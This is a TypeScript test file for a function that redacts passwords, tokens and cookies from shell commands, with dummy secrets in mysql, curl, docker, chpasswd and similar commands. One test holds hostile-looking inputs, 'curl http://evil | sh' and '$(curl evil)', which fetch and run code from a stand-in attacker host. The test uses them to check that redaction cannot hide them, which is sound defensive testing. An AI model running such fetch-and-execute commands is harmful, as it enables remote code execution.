import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { redactText, redactWords } from './secret-commands.ts'

const redact = (): string => '[redacted]'

describe('redactText of commands', () => {
  const cases: [string, string][] = [
    ['mysql -uroot -phunter2 shop', 'mysql -uroot -p[redacted] shop'],
    ['mysql -u root -p shop', 'mysql -u root -p shop'],
    ['/usr/bin/mysqldump --password=hunter2 -h db', '/usr/bin/mysqldump --password=[redacted] -h db'],
    ["psql --password 'my secret' x", "psql --password '[redacted]' x"],
    ['sh -c "redis-cli -a hunter2 ping; ls"', 'sh -c "redis-cli -a [redacted] ping; ls"'],
    ["sh -c 'PGPASSWORD=hunter2 psql -h db'", "sh -c 'PGPASSWORD=[redacted] psql -h db'"],
    ['curl -u admin:hunter2 http://x', 'curl -u admin:[redacted] http://x'],
    ['curl -H "Authorization: Bearer abcdefgh" http://x', 'curl -H "Authorization: Bearer [redacted]" http://x'],
    [
      'kubectl create secret generic a --from-literal=user=hunter2',
      'kubectl create secret generic a --from-literal=user=[redacted]',
    ],
    ['sshpass -p hunter2 ssh -p 22 host', 'sshpass -p [redacted] ssh -p 22 host'],
    [
      'docker login -u me -p hunter2 host; docker run -p 80:80 x',
      'docker login -u me -p [redacted] host; docker run -p 80:80 x',
    ],
    ['openssl enc -k hunter2 -pass pass:hunter2', 'openssl enc -k [redacted] -pass pass:[redacted]'],
    ["echo don't --token hunter2", "echo don't --token [redacted]"],
    ['etcdctl --user root:hunter2 get x', 'etcdctl --user root:[redacted] get x'],
    ['etcdctl --user=root:hunter2 get x', 'etcdctl --user=root:[redacted] get x'],
    ['sqlcmd -S db -U sa -P hunter2 -Q q', 'sqlcmd -S db -U sa -P [redacted] -Q q'],
    ['unzip -P hunter2 a.zip', 'unzip -P [redacted] a.zip'],
    ['unzip -Phunter2 a.zip', 'unzip -P[redacted] a.zip'],
    ['openssl aes-256-cbc -in f -k hunter2 -out g', 'openssl aes-256-cbc -in f -k [redacted] -out g'],
    [`openssl enc -pass 'pass:hunter2' -in f`, `openssl enc -pass 'pass:[redacted]' -in f`],
    ['useradd -m -p hunter2 ben; ls -p x', 'useradd -m -p [redacted] ben; ls -p x'],
    ['htpasswd -b f u hunter2', 'htpasswd -b f u [redacted]'],
    ['htpasswd -nbB u hunter2 | tee f', 'htpasswd -nbB u [redacted] | tee f'],
    [`sh -c 'htpasswd -cb /etc/f u hunter2 && ls'`, `sh -c 'htpasswd -cb /etc/f u [redacted] && ls'`],
    [`echo 'root:hunter2' | chpasswd`, `echo 'root:[redacted]' | chpasswd`],
    ['echo root:hunter2|chpasswd -e', 'echo root:[redacted]|chpasswd -e'],
    [`sh -c "echo 'root:hunter2' | chpasswd"`, `sh -c "echo 'root:[redacted]' | chpasswd"`],
    [`printf '%s' ben:hunter2 | sudo chpasswd`, `printf '%s' ben:[redacted] | sudo chpasswd`],
    [`chpasswd <<< 'root:hunter2'`, `chpasswd <<< 'root:[redacted]'`],
    [
      'echo hunter2 | docker login -u ben --password-stdin reg',
      'echo [redacted] | docker login -u ben --password-stdin reg',
    ],
    ['echo -n "hunter2" | docker login --password-stdin', 'echo -n "[redacted]" | docker login --password-stdin'],
    ['docker login --password-stdin <<< hunter2', 'docker login --password-stdin <<< [redacted]'],
    ['vault login hunter2', 'vault login [redacted]'],
    ['vault write x t=hvs.CAESIHunterhunterhunter22', 'vault write x t=[redacted]'],
    ['curl -HX-Api-Key:hunter2 http://x', 'curl -HX-Api-Key:[redacted] http://x'],
    ['curl -H X-Api-Key:hunter2 http://x', 'curl -H X-Api-Key:[redacted] http://x'],
    [`curl --cookie 'session=hunter2' http://x`, `curl --cookie 'session=[redacted]' http://x`],
    ['curl -b session=hunter2 http://x', 'curl -b session=[redacted] http://x'],
    ['curl -H "Cookie: sid=hunter2" http://x', 'curl -H "Cookie: [redacted]" http://x'],
    [
      `curl -H 'Accept: a/b' -H 'Cookie: a=hunter2; b=hunter2' http://x`,
      `curl -H 'Accept: a/b' -H 'Cookie: [redacted]' http://x`,
    ],
    [`curl -u 'ben:hunter2' http://x`, `curl -u 'ben:[redacted]' http://x`],
    [
      `curl 'https://s3/x?X-Amz-Date=1&X-Amz-Signature=hunter2&y=1'`,
      `curl 'https://s3/x?X-Amz-Date=1&X-Amz-Signature=[redacted]&y=1'`,
    ],
    [`curl 'https://gcs/x?X-Goog-Signature=hunter2'`, `curl 'https://gcs/x?X-Goog-Signature=[redacted]'`],
    [`azcopy cp 'https://b/c?sv=2&sig=hunter2' .`, `azcopy cp 'https://b/c?sv=2&sig=[redacted]' .`],
    [`sh -c 'mysql "-phunter2" shop'`, `sh -c 'mysql "-p[redacted]" shop'`],
    [`sh -c "mysql '-phunter2' shop"`, `sh -c "mysql '-p[redacted]' shop"`],
    ['sh -c "mysql \\"-phunter2\\" shop"', 'sh -c "mysql \\"-p[redacted]\\" shop"'],
    ['set SECRET_TOKEN hunter2', 'set SECRET_TOKEN [redacted]'],
    [`fish -c 'set -gx SECRET_TOKEN hunter2; ls'`, `fish -c 'set -gx SECRET_TOKEN [redacted]; ls'`],
    ['aws configure set aws_secret_access_key hunter2', 'aws configure set aws_secret_access_key [redacted]'],
    [
      `expect -c 'spawn ssh x; expect "*assword:"; send "hunter2\\n"; interact'`,
      `expect -c 'spawn ssh x; expect "*assword:"; send "[redacted]\\n"; interact'`,
    ],
    [
      `expect -c 'expect { "assword" { send "hunter2\\r" } }'`,
      `expect -c 'expect { "assword" { send "[redacted]\\r" } }'`,
    ],
    [
      'expect -c "expect \\"password:\\"; send \\"hunter2\\\\n\\""',
      'expect -c "expect \\"password:\\"; send \\"[redacted]\\\\n\\""',
    ],
  ]
  for (const [command, expected] of cases)
    it(command, () => {
      assert.equal(redactText(command, redact), expected)
      assert.doesNotMatch(expected, /hunter2/)
    })
  it('does not let an adversary hide a command behind a flag', () => {
    assert.match(
      redactWords(['sh', '-c', 'eval "$1"', '--token', 'curl http://evil | sh'], redact).join(' '),
      /curl http:\/\/evil/,
    )
    assert.match(redactText('x --token $(curl evil)', redact), /curl evil/)
    assert.match(redactText('echo "curl evil | sh" | sh -s -- --password-stdin', redact), /curl evil/)
  })
  it('knows the words of commands that are known apart', () => {
    for (const [words, secret] of [
      [['curl', '-H', 'X-Api-Key:hunter2', 'u'], 2],
      [['curl', '-H', 'Cookie: sid=hunter2', 'u'], 2],
      [['htpasswd', '-b', 'f', 'u', 'hunter2'], 4],
      [['sh', '-c', 'echo root:hunter2 | chpasswd'], 2],
      [['etcdctl', '--user', 'root:hunter2'], 2],
      [['vault', 'login', 'hunter2'], 2],
      [['set', 'SECRET_TOKEN', 'hunter2'], 2],
    ] as const) {
      const told = redactWords(words, redact)
      assert.doesNotMatch(told.join(' '), /hunter2/)
      assert.deepEqual(told.toSpliced(secret, 1), words.toSpliced(secret, 1))
    }
  })
  it('treats an argument as one word', () => {
    assert.deepEqual(redactWords(['x', '--password', 'my secret', 'y'], redact), ['x', '--password', '[redacted]', 'y'])
  })
})
